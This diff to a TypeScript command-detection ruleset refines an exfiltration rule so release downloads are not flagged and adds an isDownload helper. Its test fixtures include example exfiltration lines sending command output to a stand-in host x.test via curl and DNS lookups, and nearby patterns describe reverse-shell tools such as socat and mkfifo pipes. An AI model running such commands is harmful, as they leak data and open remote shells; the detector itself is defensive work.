@@ -48,11 +48,18 @@ export const networkRules: readonly CommandRule[] = [
     saw: ({ name, words }) =>
       words.some(
         ({ text }) =>
-          (/^(?:https?|ftp):\/\/.*(?:[?&/=].*\$\(\)|\$\(\)\.)/.test(text) && /[?.]/.test(text)) ||
+          (/^(?:https?|ftp):\/\/.*(?:[?&/=].*\$\(\)|\$\(\)\.)/.test(text) &&
+            /[?.]/.test(text) &&
+            !isDownload(text)) ||
           (/^(?:dig|nslookup|host|ping|whois)$/.test(name) && /^\$\(\)\./.test(text)),
       ),
     hits: ['curl http://x.test/?d=$(cat a | base64)', 'dig $(id | base64).x.test'],
-    misses: ['curl https://x.test/?q=1', 'dig example.com', 'curl "$(cat url)"'],
+    misses: [
+      'curl https://x.test/?q=1',
+      'curl -LO https://x.test/releases/download/tool_$(uname -s).tar.gz',
+      'dig example.com',
+      'curl "$(cat url)"',
+    ],
   },
   {
     id: 'exfiltration.upload',
@@ -327,4 +334,11 @@ function isReverseShell(command: Command): boolean {
     );
   if (name === 'socat') return words.some(({ text }) => /^(?:exec|system):.*(?:sh|cmd|login)/i.test(text));
   return name === 'mkfifo' && words.some(({ text }) => /^\/tmp\/(?:f|p|s|backpipe)$/.test(text));
+}
+
+/** Returns whether an address is a file of a release, with the system or the version in its name. */
+function isDownload(address: string): boolean {
+  return /^https:\/\/[^?#]{4,400}(?:\/releases?\/[^?#]{1,300}|\/download[^?#]{1,300}|\.(?:tar\.[a-z]{2,3}|tgz|zip|gz|xz|deb|rpm|apk|dmg|exe|msi|whl|jar|AppImage|sha256))$/.test(
+    address,
+  );
 }
